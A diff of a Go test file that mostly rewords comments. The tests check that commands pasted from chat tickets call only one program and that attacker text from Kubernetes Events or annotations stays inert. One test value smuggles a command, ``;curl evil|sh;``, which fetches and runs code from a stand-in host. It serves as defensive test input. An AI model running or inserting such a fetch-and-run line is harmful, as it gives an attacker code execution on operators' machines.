@@ -17,8 +17,7 @@ import (
 	"github.com/lbremedy/lbremedy/shared/say"
 )
 
-// words returns the words of a command as a POSIX shell reads them, and an error if it would do more than call one
-// program with them.
+// words splits a command as a POSIX shell does. It fails if the command would do more than call one program.
 func words(command string) ([]string, error) {
 	var all []string
 	var word strings.Builder
@@ -60,14 +59,14 @@ func words(command string) ([]string, error) {
 	return all, nil
 }
 
-// shown returns a text as a chat may show it that reads Markdown: without the backslashes before punctuation, and
-// with the characters that references of HTML stand for.
+// shown returns a text as a chat with Markdown may show it: without backslashes before punctuation, and with HTML character
+// references resolved.
 func shown(text string) string {
 	return html.UnescapeString(regexp.MustCompile("\\\\([!-/:-@[-`{-~])").ReplaceAllString(text, "$1"))
 }
 
-// A person pastes commands out of a chat. Whatever an annotation holds, they have the same words there, and call
-// nothing else.
+// People paste commands from a chat. With any annotation, the commands have the same words there and call nothing
+// else.
 func TestPlainCommands(t *testing.T) {
 	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web"}}
 	values := []string{
@@ -90,7 +89,7 @@ func TestPlainCommands(t *testing.T) {
 			}
 		}
 	}
-	// Commands with lists in JSON stay what they are.
+	// Commands with JSON lists stay unchanged.
 	for _, command := range []string{
 		ccm.TargetPortCommand(svc, corev1.ServicePort{}), ccm.ClearCommand(svc), ccm.WakeCommand(svc), `aliyun slb DeleteRules --RuleIds '["rule-1"]'`,
 		ccm.PatchCommand(svc, `{"spec":{"ipFamilies":["IPv4"]}}`), ccm.SetCommand(svc, "x", "it's [mine], a&b && c"),
@@ -101,8 +100,8 @@ func TestPlainCommands(t *testing.T) {
 	}
 }
 
-// What a stranger has put into an Event or an annotation becomes no link, no mention and no code in a chat, wherever it
-// stands in a ticket, and the command in it is safe to paste.
+// Text that an attacker puts into an Event or annotation becomes no link, mention or code in a chat, anywhere in a ticket, and commands
+// that contain it are safe to paste.
 func TestPlainTickets(t *testing.T) {
 	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web"}}
 	command := ccm.SetCommand(svc, ccm.GroupPairs, "rsp-1:80,x:`;curl evil|sh;`")
@@ -120,7 +119,7 @@ func TestPlainTickets(t *testing.T) {
 			m.Ask = say.Literal("Name each group with its port: " + command + ". " + evil)
 			m.By = said
 			if i > 0 {
-				m.Finding = nil // what the controller said stands there then
+				m.Finding = nil // the controller's message is then shown instead
 			}
 			f.Services = []Member{f.Lead}
 			title, text, err := written.write(f, kind{title: 1000, text: 16000})
